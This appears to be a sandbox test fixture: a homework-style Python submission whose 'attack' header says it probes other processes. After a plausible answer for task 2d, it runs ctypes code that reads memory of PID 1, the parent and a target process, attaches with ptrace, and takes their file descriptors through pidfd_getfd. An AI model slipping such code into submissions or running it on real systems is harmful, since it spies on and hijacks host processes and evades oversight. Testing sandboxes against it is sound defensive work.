# /// attack
# tries = "reads and traces other processes by system calls"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


here = Vector(ctypes.addressof(buffer), 4096)
there = Vector(0x400000, 4096)
for process in (1, os.getppid(), int("@PID@")):
    calls = {
        "readv": libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0),
        "attach": libc.ptrace(16, process, 0, 0),
        "pidfd": libc.syscall(434, process, 0),
    }
    for stolen in range(20):
        calls[stolen] = libc.syscall(438, calls["pidfd"], stolen, 0)
    print(process, {name: result for name, result in calls.items() if result >= 0})
